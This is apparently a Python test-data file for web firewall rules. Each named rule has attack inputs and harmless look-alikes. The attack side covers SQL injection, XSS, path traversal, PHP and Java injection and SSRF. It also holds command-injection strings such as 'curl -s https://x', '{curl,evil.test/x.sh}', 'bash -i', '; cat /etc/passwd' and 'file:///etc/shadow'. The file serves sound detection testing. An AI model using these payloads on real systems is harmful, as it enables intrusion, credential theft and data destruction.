"""Attacks and look-alikes of the rules that are not in attacks.py and look_alikes.py; a text is an argument."""

from tests.unit.attacks import arg, cookie, header, path

FORM = {"content-type": "application/x-www-form-urlencoded"}


def texts(*lines):
    """Return a request for each line, with a document of several lines."""
    around = ["Some notes of ours", "from the first of May on, about this and that", "{}", "The end", ""]
    kind = {"content-type": "text/plain"}
    return [{"headers": kind, "body": "\r\n".join(around).replace("{}", line, 1).encode()} for line in lines]


NAMED = {
    "sqli-comparison": (
        ["1 and 1=1", "1 or 2>1", "x) or (1=1", "1 or a=char(97)", "1 and id>0"],
        ["black and white = grey", "this or that", "a=1", "price < 100 and size > 40", "a OR due < endOfWeek()"],
    ),
    "sqli-quote-operator": (["'||'a", "'='"], ["it's fine", "rock 'n' roll"]),
    "sqli-comment-end": (["admin'--", "1') #", "x';--"], ["well -- yes", "it's #1 of all", "C# and F#"]),
    "sqli-cast": (["password::int", "'a' @> '{}'"], ["std::vector", "a::b"]),
    "sqli-select-columns": (["select @@version", "select count(*)"], ["select a colour", "please select one"]),
    "sqli-select-from": (["select a from b where", "select x from t limit 1"], ["select one from the list", "from b"]),
    "sqli-select-list": (["select * from t", "select a,b from t"], ["select from these", "selected * from"]),
    "sqli-subquery": (
        ["1=(select 1)", "a,(select x)", "1,select @@version", "(select distinct a from b)"],
        ["(selection)", "select (one)", "title:(select OR union)", "union jack, select committee"],
    ),
    "sqli-catalogue": (["information_schema.tables", "sqlite_master"], ["information about schemas", "all tables"]),
    "sqli-dangerous-function": (["extractvalue(1,2)", "xp_cmdshell('dir')"], ["extract value (new)", "load file"]),
    "sqli-function-call": (["ascii(x)", "1,concat(a)"], ["ascii art", "count on me"]),
    "sqli-built-string": (["char(65,66)", "chr(65)||chr(66)"], ["char of the week", "chr 65"]),
    "sqli-conditional": (["case when 1 then 2 end", "if(1=1,2,3)"], ["in case of rain", "if (so) then"]),
    "sqli-outfile": (["into outfile '/x'", "load data infile 'x'"], ["into out of bounds", "into outfile S3 exports"]),
    "sqli-order-by-number": (
        ["1 order by 3--", "' group by (x)", "a having 1=1"],
        ["order by phone", "group by age", "having 2 jobs"],
    ),
    "sqli-data-change": (
        ["insert into t values(1)", "delete from t where", "1; delete from t"],
        ["insert a coin into it", "delete it", "delete from basket"],
    ),
    "sqli-schema-change": (["drop table users", "alter table t add x"], ["the drop of a table", "alter ego"]),
    "sqli-execute": (["exec xp_x", "declare @a"], ["execute the plan", "declare war"]),
    "sqli-hex-string": (["=0x61646d696e", "(0x414243)"], ["0xzz", "color 0x12"]),
    "sqli-version-comment": (["/*!50000select*/", "un/**/union"], ["/* note */", "a /x/ b"]),
    "sqli-quoted-null": (
        ["' is null", "') between 1", "' union all select 1", "' limit 1,2"],
        ["it's null", "is 'between' ok", '["union jack"]', '["limit 5 a head"]', '["procedure"]'],
    ),
    "sqli-broken-quote": (["1'", "abc')"], ["the '90s", "it's"]),
    "xss-attribute-handler": (['" onmouseover=alert(1)', "x' onfocus='y'"], ["on time", "conclick=1"]),
    "xss-active-element": (["<iframe src=x>", "<svg/>"], ["iframe guide", "svg < a"]),
    "xss-element": (["<b>", "</div>"], ["a < b", "<3"]),
    "xss-loading-element": (["<img src=x>", "<q style=a>"], ["src=x", "a < b src"]),
    "xss-script-call": (["alert(1)", "x=eval('y')"], ["alert level", "preval (x)"]),
    "xss-alert": (["alert(1)", "top['alert'](1)"], ["red alert level (new)", "confirm order"]),
    "xss-page-access": (["document.cookie", "window['location'='x'"], ["document about cookies", "window seat"]),
    "xss-dom-write": (["x.innerHTML=1", "new Function('x')"], ["new functions", "inner html"]),
    "xss-constructor": (["[].constructor.constructor('x')()", "__proto__"], ["constructor pattern", "proto"]),
    "xss-data-url": (["data:text/html,<b>", "data:text/html;base64,PHNjcmlwdD4="], ["data: text", "metadata:x"]),
    "xss-style-script": (["width:expression(alert(1))", "@import 'x'"], ["regular expression", "import data"]),
    "xss-no-letters": (["[][(![]+[])[+[]]]", "(![]+[])[+[]][![]]"], ["[a][b][c]", "a[0][1]"]),
    "xss-closing-quote": (['"><b', "--><p"], ['a "quote" > b', "x -> y"]),
    "xss-utf-7": (
        ["+ADw-script+AD4-", path("/?q=%2BADw-b"), path("/?q=x%BCscript%BE")],
        ["1+ADA", "+AD", "trzeba uważać, a potem"],
    ),
    "xss-script-text": (["';alert(1)//", "};var a=1"], ["prompt answer", "a; variable x"]),
    "xss-odd-element": (["<x/y", "<zz y='1'>"], ["a < x", "<name>"]),
    "xss-spaced-element": (["<s c r i p t", "<f o r m"], ["< forms >", "a < b"]),
    "xss-framework": (["{{$on.x}}", "{{a.constructor('b')()}}"], ["{{ name }}", "range"]),
    "traversal-windows-file": (
        ["c:\\windows\\win.ini", "boot.ini", "c:\\users\\administrator\\x"],
        ["new windows", "c: drive", "C:\\Users\\Public\\Documents", "C:\\Program Files\\Git"],
    ),
    "traversal-encoded-dots": ([path("/%c0%ae/x"), path("/%252e%252e%252fx")], [path("/a%2fb"), path("/a%252fb")]),
    "traversal-overlong": ([path("/?a=%c0%ae"), path("/?a=%e0%80%ae")], ["é", "日本"]),
    "traversal-dotted-hex": (["0x2e0x2e0x2f", "..%5c%2e%2e/etc"], ["0x2e", "a.b/c"]),
    "traversal-url-file": (["file:///x", "/etc/x"], ["/page/etc", "a file"]),
    "traversal-secret-name": (
        [path("/.htpasswd"), path("/wp-config.php"), path("/.env.local")],
        [path("/docs"), path("/.env.example"), "config"],
    ),
    "traversal-config-name": (
        ["nginx.conf", path("/a/b/x.bak"), "backup.zip"],
        ["nginx.config", path("/docs/backup"), "x.bakery"],
    ),
    "traversal-config-path": (
        [path("/settings.php"), path("/backup.zip"), path("/a/x.bak"), path("/wp-content/debug.log")],
        [
            path("/admin/settings.php"),
            path("/dav/files/alice/Passwords.kdbx"),
            path("/files/backup.zip"),
            path("/x.log"),
        ],
    ),
    "sqli-weak-sign": (
        ["select user", "drop table lamp", "create table plan", "POLYGON((1 2))", "alter user x", "the northwind"],
        ["select a user", "table lamp", "polygon", "user selection", "north wind"],
    ),
    "xss-weak-sign": (
        ['x-data="{}"', 'v-if="a"', "throw pillows", "x ng-app", "/js/prototype.js", "new image", "hx-get"],
        ["pillow throws", "prototypes", "images", "v-neck", "data"],
    ),
    "injection-weak-sign": (
        ["{{.message}}", "return true story", "java.lang.NullPointerException", "org.springframework.boot", "$f(x)$"],
        ["{{}}", "true story", "java", "springframework", "f(x)"],
    ),
    "scanner-product-path": (
        [path("/manager/html"), path("/cacti/graph.php"), path("/api/v1/pods")],
        [path("/manager"), path("/a/cacti/x"), path("/api/v1/pods/x")],
    ),
    "rce-known-command": (
        ["cat /etc/x", "whoami /all", "ls -la", "chmod 777 /tmp/x", "rm -rf /tmp"],
        [
            "the cat sat",
            "who am i",
            "ls -la explained",
            "what chmod 755 means",
            "Items($select=Id;$top=2)",
            "rm -rf build",
        ],
    ),
    "rce-separated-command": (
        ["x;cat /y", "a|whoami", "x\nwhoami", "x\ncat /etc/y", ";printenv"],
        ["heroine; more than that", "a | catalogue", "one\necho chamber", "one\nset of two", "one\nhead - to toe"],
    ),
    "rce-shell-path": (["/bin/sh", "cmd.exe /c x", "x;/bin/y", "/bin/c?t /x"], ["the bin", "/binary/x", "/bin/ffmpeg"]),
    "rce-substitution": (
        ["$(id)", "`ls`", "`cat /etc/x`"],
        ["cost $5 (net)", "`", "`code`", "run `make install` first"],
    ),
    "rce-reverse-shell": (
        ["bash -i", "x|sh", "tar x --checkpoint-action=exec=sh"],
        ["bash tutorial", "wash|dry", "x --checkpoint"],
    ),
    "rce-redirection": (["x>/tmp/y", "2>&1"], ["a > b", "2 > 1"]),
    "rce-wildcard-path": (
        ["/???/??t", "/etc/p?ss", "/{bin,usr}/x", "{cat,/etc/x}", "{ls,-la}"],
        ["what? yes", "/a/b?", "owner{id,name},x{from,message}"],
    ),
    "rce-broken-word": (["c'a't", "n^e^t user"], ["it's a cat", "a'b", "d'n'b"]),
    "rce-windows-command": (["x&dir c:", "|tasklist"], ["a & directions", "start x"]),
    "rce-batch": (
        ["for %i in (a) do b", "if not exist x y", "if a==b c"],
        ["for you in May", "if so do", "if x == 1: y = 2"],
    ),
    "rce-shell-arithmetic": (["$((1+1))", "/etc/[p]asswd", "/???/c?t"], ["$5 (1+1)", "[a]", "what? a/b?"]),
    "rce-alias": (["alias a=b", "time sh -c x"], ["an alias", "time share"]),
    "rce-powershell": (["Invoke-Expression x", "DownloadString"], ["invoke an expression", "download"]),
    "rce-interpreter": (["os.system('x')", "subprocess.Popen(x)"], ["os systems", "the subprocess"]),
    "rce-download": (
        ["wget http://x", "curl -s https://x", "x;pip install y", "{curl,evil.test/x.sh}"],
        ["curl up", "fetch it", "npm install react"],
    ),
    "injection-php-wrapper": (["php://input", "phar://x"], ["php: the input", "http://x"]),
    "injection-php-function": (["system('x')", "eval($x)"], ["the system", "file (new)"]),
    "injection-php-named-call": (["base64_decode(", "phpinfo()"], ["base64 decode", "php info"]),
    "injection-php-variable-call": (
        ["$a('x')", "${'x'}", "('sys'.'tem')('id')"],
        ["$5 (net)", "$ {x}", "it's. 'so' (new)"],
    ),
    "injection-upload-name": ([header("a.php", "x-filename"), path("/x.php.jpg")], [header("a.jpg", "x-filename")] * 2),
    "injection-php-variable": (
        ["$_GET['x']", "$GLOBALS", "x/invokefunction"],
        ["$get", "globals"],
    ),
    "injection-php-object": (['O:1:"a":0:{', 'a:1:{i:0;s:1:"x";}'], ["o: 1", "ratio a:1"]),
    "injection-java-class": (["java.lang.Runtime", header("ProcessBuilder.x")], ["java language", "runtime"]),
    "injection-java-expression": (
        ["${a.b()}", "#context['x']", "#a=@java.lang.Runtime@getRuntime()"],
        ["${name}", "# context", "https://x.example/app#tab=files", "/page#b=1"],
    ),
    "injection-java-object": (
        ["rO0ABXNyABFq", path("/?x=%ac%ed%00%05"), "cos\nsystem\n(S'id'", "!ruby/object:Gem::Installer"],
        ["rooab", "aced", "!ruby/object:Post", "because\nsystems"],
    ),
    "injection-template": (
        ["{{7*7}}", "<%= 7*7 %>", "{{config}}", "{{ x|attr(1) }}"],
        ["{{name}}", "{ 7*7 }", "{{ states(1) | float }}"],
    ),
    "injection-python-object": (
        ["''.__class__", "__import__('os')", "x.__init__", "a['__dict__']"],
        ["__name", "class", '{__name__=~"node_.*"}', "__init__ and __new__"],
    ),
    "injection-node-code": (["require('fs')", "child_process"], ["require (this)", "process"]),
    "injection-nosql": ([path("/?a[$ne]=1"), '{"$where": "x"}'], ["[ne]", "cost: $5"]),
    "injection-ldap": (["*)(uid=*", "(|(a=b", "john)(sn~=smith"], ["(a) or (b)", "a*b"]),
    "injection-xml-entity": (['<!DOCTYPE a [<!ENTITY b SYSTEM "x">', "<!entity x"], ["<!doctype html>", "entity"]),
    "injection-xpath": (["' or count(/x)", "child::node()", "x'] | //a"], ["child: node", '//*[@id="a"]/div[1]']),
    "injection-ssi": (['<!--#exec cmd="x"', "<esi:include"], ["<!-- note -->", "#exec"]),
    "injection-mail": (["x\r\nbcc: a@b", "x\r\nRCPT TO: y"], ["bcc: me", "to: you"]),
    "ssrf-scheme": (
        ["gopher://x", "dict://x", path("/autodiscover/autodiscover.json?@a.test/mapi/nspi")],
        ["https://x", "a gopher", path("/autodiscover/autodiscover.json?Email=a@b.test")],
    ),
    "ssrf-local-address": (
        [
            "http://127.0.0.1/",
            "http://localhost/x",
            "http://127.0.0.1:6379",
            "localhost:22",
            "http://[::1]/",
            "http://0x7f000001",
        ],
        [
            "https://example.com/",
            "local host",
            "http://127.0.0.1:51234/callback",
            "http://localhost:49152/",
            "http://[::1]:60000/cb",
        ],
    ),
    "ssrf-private-address": (
        ["http://192.168.1.10:8123/", "https://nas.local/a", "http://10.0.0.5", "http://grafana.internal:3000/login"],
        ["https://example.com/", "10.0.0.5", "http://11.0.0.5/", "nas.local", "https://local.example/"],
    ),
    "ssrf-remote-file": (
        ["http://192.0.2.1/x", "http://x.test/a.txt?", "http://172.15.0.1/x", "http://8.8.8.8:80/"],
        [
            "https://example.com/a.txt",
            "x.txt?",
            "http://192.168.1.10:8123/",
            "http://10.0.0.5/ui",
            "http://172.16.0.9/",
        ],
    ),
    "protocol-line-break": ([path("/?x=%0d%0aSet-Cookie:"), path("/?x=%u000d%u000a")], [path("/?x=%0d%0ay"), "line"]),
    "protocol-line-break-in-name": ([path("/?a%0d=1"), path("/a%0ab")], [path("/?a=%0d"), path("/a%20b")]),
    "protocol-session-fixation": (
        [
            {"uri": "/?jsessionid=1", "headers": {"referer": "https://evil.test/"}},
            {"uri": "/?a=1&PHPSESSID=2", "headers": {"referer": "http://evil.test/x"}},
        ],
        [
            {"uri": "/?jsessionid=1", "headers": {"referer": "https://office.example/"}},
            {"uri": "/?session=1", "headers": {"referer": "https://evil.test/"}},
        ],
    ),
    "protocol-not-inspected": (
        [path("/?a=" + "x" * 33_000), header("y" * 9_000)],
        [path("/?a=" + "x" * 3_000), header("y" * 3_000)],
    ),
    "injection-graphql-flood": (
        [
            "{a" * 20 + "}" * 20,
            "{" + "a1: user(id: 1) { name }, " * 20 + "}",
            "a: me { b } " * 20,
            "a1: __typename " * 20,
        ],
        ["{a" * 19 + "}" * 19, "{ a: user(id: 1) { name } }"],
    ),
    "injection-graphql-introspection": (
        ["{ __schema { types { name } } }", '{__type(name: "User") { name }}'],
        ["{ __typename }", "a __schema"],
    ),
    "protocol-too-long": (
        [path("/?a=" + "x" * 33_000), header("y" * 9_000), {"headers": FORM, "body": b"a=b&c" + b"d" * 66_000}],
        [path("/?a=" + "x" * 30_000), {"headers": {"content-type": "image/png"}, "body": b"\x89PNG" + b"d" * 66_000}],
    ),
    "sqli-in-text": (
        texts("a' or 1=1 --", "1 or 1=1", "'; drop table users", "1' union select 2", "x' and (select 1)=1"),
        texts("select the users' union", "it's 1 or 2", 'if a == "x" or b == "y":'),
    ),
    "rce-in-text": (
        texts("; cat /etc/passwd", "| whoami", "$(uname -a)", "&& sleep 5;", "x = os.execute('a')"),
        texts("| id | name |", "run `id` or `whoami` first", "cat /etc/hosts.example"),
    ),
    "traversal-in-text": (
        texts("../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/shadow"),
        texts("see ../../docs/etc.md", "[here](../x.md)"),
    ),
    "injection-in-text": (
        texts("{{7*7}}", "${ 7*'7' }", "x.__class__.__mro__[1]", "#{T(java.lang.Runtime)}", "<!ENTITY % x SYSTEM 'y'>"),
        texts("{{ user.name }}", "${HOME}", "a class with __mro__"),
    ),
    "protocol-open-redirect": (
        ["//evil.test", "/\\evil.test", path("//evil.test/a")],
        ["/evil.test", "https://evil.test"],
    ),
    "protocol-foreign-redirect": (
        [path("/?next=https://evil.test/"), path("/?url=//evil.test")],
        [path("/?next=https://office.example/"), path("/?text=https://evil.test/"), path("/?next=/a")],
    ),
    "protocol-odd-header": (
        [header("a\0b"), header("a%0dbc: d")],
        [header("a b"), header("a%0db"), cookie("a%0dbc: d")],
    ),
}


def requests(examples):
    return [arg(each) if isinstance(each, str) else each for each in examples]


ATTACKS_OF_NAMED = {key: requests(attacks) for key, (attacks, _) in NAMED.items()}
HARMLESS_OF_NAMED = {key: requests(harmless) for key, (_, harmless) in NAMED.items()}
